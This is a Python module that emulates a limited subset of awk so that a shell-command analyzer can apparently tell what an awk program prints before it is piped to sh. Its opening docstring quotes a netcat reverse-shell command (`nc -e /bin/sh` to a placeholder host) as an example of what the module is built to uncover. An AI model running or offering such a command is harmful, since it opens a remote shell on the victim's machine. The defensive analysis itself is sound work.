"""What a small awk program prints, for the programs that build a command for a shell:
`awk 'BEGIN{print "nc -e /bin/sh H P"}' | sh`, `... | awk '{print tolower($0)}' | sh`,
`awk -F: '{print $2 " " $1}'`.

Read, as POSIX awk and gawk run them: rules made of an optional BEGIN or END and one block of
statements; `print` (expressions separated by commas are joined by a space, the default OFS) and
`printf` with %s, %d and %% only; expressions made of string literals and decimal integers, fields ($0,
$N, $NF), NR, NF, variables (`x = "n" "c"`; unset ones are empty), concatenation, parentheses and
the functions tolower, toupper, substr, length and sprintf. Fields are split on runs of blanks, or
on one character given with -F. ASCII only: beyond it gawk, mawk and the locale disagree on lengths,
case and escapes. Anything else (patterns, loops, getline, other options, built-in variables other
than NR and NF, numbers other than plain integers, printf with too few arguments) makes the output
unknown (None): a wrong answer would have the reader read what does not run. A program that has only BEGIN rules reads no
input, so its output is known even when its input is not.
"""
from __future__ import annotations

import re

from .filters import _lines

MAX_PROGRAM = 4096
MAX_OUTPUT = 1 << 20
_TOKEN = re.compile(
    r'[ \t]*(?:(?P<string>"(?:[^"\\\n]|\\.)*")|(?P<number>[0-9][0-9A-Za-z_.]*)|(?P<field>\$)|'
    r'(?P<name>[A-Za-z_][A-Za-z_0-9]*)|(?P<punct>==|[{}();,\n=]))')
"""One token. Python's `re`, not re2: re2's Python `match` encodes the whole text at each call (a
program's tokens cost its length squared), and this pattern is linear in a backtracking engine too:
its alternatives begin with different characters, and within a string `[^"\\\n]` and `\\.` do."""
MAX_INTEGER = 2**31 - 1
"""Number literals are read only as plain decimal integers up to this: gawk and mawk print those
alike; 1.0, 010, 1e3 or a larger number each prints otherwise in one of them."""
_ESCAPES = {"n": "\n", "t": "\t", "\\": "\\", '"': '"', "/": "/", "r": "\r", "a": "\a", "b": "\b",
            "f": "\f", "v": "\v"}
_FUNCTIONS = frozenset({"tolower", "toupper", "substr", "length", "sprintf"})
_KEYWORDS = frozenset({
    "print", "printf", "if", "else", "while", "for", "do", "in", "getline", "next", "nextfile", "exit",
    "function", "func", "return", "delete", "break", "continue", "switch", "case", "default", "system",
    "close", "fflush", "int", "index", "match", "split", "sub", "gsub", "gensub", "sprintf", "substr",
    "length", "tolower", "toupper", "rand", "srand", "sin", "cos", "atan2", "exp", "log", "sqrt",
    "strftime", "systime", "mktime", "and", "or", "xor", "compl", "lshift", "rshift", "asort", "asorti",
    "patsplit", "strtonum", "isarray", "typeof", "bindtextdomain", "dcgettext", "dcngettext"})
_VARIABLE_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789_")
_DIGITS = frozenset("0123456789")
"""A user variable ([a-z_][a-z0-9_]*): lower case only, so no built-in (NR, FS, OFS, RT, FIELDWIDTHS, TEXTDOMAIN,
PROCINFO, ... are all upper case) is taken for an empty variable, and not a keyword or function."""
MAX_VARIABLES = 64


def _kind(first: str) -> str:
    """A token's kind, told by its first character as _TOKEN's groups are (re2's lastgroup is slow)."""
    if first == '"':
        return "string"
    if first.isdigit():
        return "number"
    if first == "$":
        return "field"
    if first.isalpha() or first == "_":
        return "name"
    return "punct"


class _Unknown(Exception):
    pass


def output(args: list[str], stdin: str | None) -> str | None:
    """`awk [-F C] 'PROGRAM'` reading `stdin` (None: unknown), or None when that cannot be known."""
    separator = None
    words = list(args)
    if words[:1] == ["--"]:
        words = words[1:]
    if words and words[0].startswith("-F"):
        separator = words.pop(0)[2:] or (words.pop(0) if words else "")
        if len(separator) != 1 or separator == " ":
            return None  # a regex or the default: only one plain character is read
    if len(words) != 1 or len(words[0]) > MAX_PROGRAM:
        return None
    if not all(text.isascii() for text in (words[0], separator or "", stdin or "")):
        return None  # lengths, case and escapes beyond ASCII differ between gawk, mawk and locales
    try:
        rules = _Parser(words[0]).program()
        return _run(rules, stdin, separator)
    except (_Unknown, IndexError, ValueError, RecursionError):
        return None


class _Parser:
    def __init__(self, text: str) -> None:
        self.tokens: list[tuple[str, str]] = []
        pos = 0
        text = text.strip()
        while pos < len(text):
            match = _TOKEN.match(text, pos)
            if match is None or match.end() == pos:
                raise _Unknown(text[pos:pos + 10])
            token = text[pos:match.end()].lstrip(" \t")
            pos = match.end()
            if not token:
                break  # trailing blanks
            self.tokens.append((_kind(token[0]), token))
        self.at = 0

    def peek(self) -> tuple[str, str] | None:
        return self.tokens[self.at] if self.at < len(self.tokens) else None

    def take(self, value: str | None = None) -> tuple[str, str]:
        token = self.peek()
        if token is None or (value is not None and token[1] != value):
            raise _Unknown(value)
        self.at += 1
        return token

    def skip_separators(self) -> None:
        while self.peek() is not None and self.peek()[1] in (";", "\n"):
            self.at += 1

    def program(self) -> list[tuple[str, list]]:
        rules = []
        self.skip_separators()
        while self.peek() is not None:
            kind, value = self.peek()
            if kind == "name" and value in ("BEGIN", "END"):
                self.at += 1
                rules.append((value, self.block()))
            elif value == "{":
                rules.append(("MAIN", self.block()))
            elif kind == "number" and value == "1":
                self.at += 1
                following = self.peek()
                if following is not None and following[1] == "{":
                    rules.append(("MAIN", self.block()))  # `1 { ... }`: the pattern always holds
                elif following is None or following[1] in (";", "\n"):
                    rules.append(("MAIN", [("print", [])]))
                else:
                    raise _Unknown("a pattern")
            else:
                raise _Unknown(value)  # a pattern
            self.skip_separators()
        return rules

    def block(self) -> list:
        self.take("{")
        statements = []
        self.skip_separators()
        while self.peek() is not None and self.peek()[1] != "}":
            statements.append(self.statement())
            self.skip_separators()
        self.take("}")
        return statements

    def statement(self) -> tuple:
        kind, value = self.take()
        if kind == "name" and _is_variable(value) and self.peek() == ("punct", "="):
            self.at += 1
            return ("set", value, self.expression())
        if kind != "name" or value not in ("print", "printf"):
            raise _Unknown(value)
        items = []
        token = self.peek()
        if token is not None and token[1] not in (";", "\n", "}"):
            items.append(self.expression())
            while self.peek() is not None and self.peek()[1] == ",":
                self.at += 1
                items.append(self.expression())
        if value == "printf" and not items:
            raise _Unknown("printf")
        return (value, items)

    def expression(self) -> tuple:
        """Concatenation: terms side by side."""
        terms = [self.term()]
        while self.peek() is not None and self.peek()[1] not in (",", ";", "\n", "}", ")"):
            terms.append(self.term())
        return ("concat", terms) if len(terms) > 1 else terms[0]

    def term(self) -> tuple:
        kind, value = self.take()
        if kind == "string":
            return ("string", _unescape(value[1:-1]))
        if kind == "number":
            if not value.isdigit() or (len(value) > 1 and value[0] == "0") or int(value) > MAX_INTEGER:
                raise _Unknown(value)
            return ("string", value)
        if kind == "field":
            kind, value = self.take()
            if kind == "number" and value.isdigit():
                return ("field", int(value))
            if kind == "name" and value == "NF":
                return ("field", "NF")
            raise _Unknown("$" + value)
        if kind == "name" and value in ("NR", "NF"):
            return ("var", value)
        if kind == "name" and _is_variable(value) and self.peek() != ("punct", "("):
            return ("user", value)
        if kind == "name" and value in _FUNCTIONS:
            self.take("(")
            arguments = []
            if self.peek() is not None and self.peek()[1] != ")":
                arguments.append(self.expression())
                while self.peek() is not None and self.peek()[1] == ",":
                    self.at += 1
                    arguments.append(self.expression())
            self.take(")")
            return ("call", value, arguments)
        if value == "(":
            inner = self.expression()
            self.take(")")
            return inner
        raise _Unknown(value)


def _unescape(text: str) -> str:
    out = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            nxt = text[i + 1]
            if nxt in _ESCAPES:
                out.append(_ESCAPES[nxt])
                i += 2
                continue
            if nxt in "01234567":
                digits = text[i + 1:i + 4]
                octal = len(digits) - len(digits.lstrip("01234567"))
                digits = digits[:octal] if octal else digits
                if int(digits, 8) > 0o177:
                    raise _Unknown("an escape beyond ASCII")
                out.append(chr(int(digits, 8)))
                i += 1 + len(digits)
                continue
            raise _Unknown(text[i:i + 2])  # gawk and mawk differ on other escapes
        out.append(ch)
        i += 1
    return "".join(out)


def _run(rules: list[tuple[str, list]], stdin: str | None, separator: str | None) -> str | None:
    out: list[str] = []
    state = {"NR": 0, "record": "", "fields": [], "vars": {}, "written": 0}
    for when, statements in rules:
        if when == "BEGIN":
            _execute(statements, state, out)
    if all(when == "BEGIN" for when, _ in rules):
        return "".join(out)  # no main or END rule: awk does not read its input
    if stdin is None:
        return None
    for record in _lines(stdin):
        state["NR"] += 1
        state["record"] = record
        state["fields"] = _fields(record, separator)
        for when, statements in rules:
            if when == "MAIN":
                _execute(statements, state, out)
    for when, statements in rules:
        if when == "END":
            _execute(statements, state, out)  # $0 and the fields keep the last record, as gawk does
    return "".join(out)


def _execute(statements: list, state: dict, out: list[str]) -> None:
    for verb, *items in statements:
        if verb == "set":
            variables = state["vars"]
            if items[0] not in variables and len(variables) >= MAX_VARIABLES:
                raise _Unknown("too many variables")
            variables[items[0]] = _value(items[1], state)
            if len(variables[items[0]]) > MAX_OUTPUT:
                raise _Unknown("value too long")
            continue
        items = items[0]
        if verb == "print":
            values = [_value(item, state) for item in items] if items else [state["record"]]
            text = " ".join(values) + "\n"
        else:
            text = _format(_value(items[0], state), [_value(item, state) for item in items[1:]])
        state["written"] += len(text)
        if state["written"] > MAX_OUTPUT:
            raise _Unknown("output too long")
        out.append(text)


def _value(node: tuple, state: dict) -> str:
    kind = node[0]
    if kind == "string":
        return node[1]
    if kind == "concat":
        parts, size = [], 0
        for term in node[1]:
            part = _value(term, state)
            size += len(part)
            if size > MAX_OUTPUT:
                raise _Unknown("value too long")
            parts.append(part)
        return "".join(parts)
    if kind == "field":
        index = len(state["fields"]) if node[1] == "NF" else node[1]
        if index == 0:
            return state["record"]
        return state["fields"][index - 1] if index <= len(state["fields"]) else ""
    if kind == "var":
        return str(state["NR"] if node[1] == "NR" else len(state["fields"]))
    if kind == "user":
        return state["vars"].get(node[1], "")
    name, arguments = node[1], [_value(a, state) for a in node[2]]
    if name == "tolower" and len(arguments) == 1:
        return arguments[0].lower()  # (ASCII only: output() reads nothing else)
    if name == "toupper" and len(arguments) == 1:
        return arguments[0].upper()
    if name == "length" and len(arguments) <= 1:
        return str(len(arguments[0] if arguments else state["record"]))
    if name == "substr" and len(arguments) in (2, 3):
        return _substr(arguments)
    if name == "sprintf" and arguments:
        return _format(arguments[0], arguments[1:])
    raise _Unknown(name)


def _fields(record: str, separator: str | None) -> list[str]:
    """awk's fields: by default split on runs of blanks (space, tab and newline only: not \\r, \\v,
    \\f, which Python's split() also takes), leading and trailing ones ignored; with -F C on each C.
    An empty record has no field."""
    if not record:
        return []
    if separator:
        return record.split(separator)
    return [field for field in record.replace("\t", " ").replace("\n", " ").split(" ") if field]


def _is_variable(name: str) -> bool:
    return bool(name) and name[0] not in _DIGITS and _VARIABLE_CHARS.issuperset(name) and name not in _KEYWORDS


def _substr(arguments: list[str]) -> str:
    """POSIX substr(s, m[, n]): characters m .. m+n-1, counted from 1, with whole-number m and n."""
    text = arguments[0]
    if not all(a.isascii() and a.isdigit() for a in arguments[1:]) or int(arguments[1]) < 1:
        raise _Unknown("substr")  # gawk and mawk round and clip a start below 1 their own way
    start = int(arguments[1])
    end = start + int(arguments[2]) if len(arguments) == 3 else len(text) + 1
    return text[start - 1:max(start - 1, end - 1)]


def _format(fmt: str, values: list[str]) -> str:
    out = []
    values = list(values)
    i = 0
    while i < len(fmt):
        ch = fmt[i]
        if ch != "%":
            out.append(ch)
            i += 1
            continue
        spec = fmt[i + 1:i + 2]
        if spec == "%":
            out.append("%")
        elif spec in ("s", "d"):
            if not values:
                raise _Unknown("printf with too few arguments")  # fatal in gawk and mawk
            value = values.pop(0)
            if spec == "d":
                digits = value[1:] if value[:1] == "-" else value
                if not (digits.isascii() and digits.isdigit()) or int(digits) > MAX_INTEGER:
                    raise _Unknown("%d")
                value = str(int(value))
            out.append(value)
        else:
            raise _Unknown("%" + spec)  # %c (a number's character, a string's first), widths, floats
        i += 2
    return "".join(out)
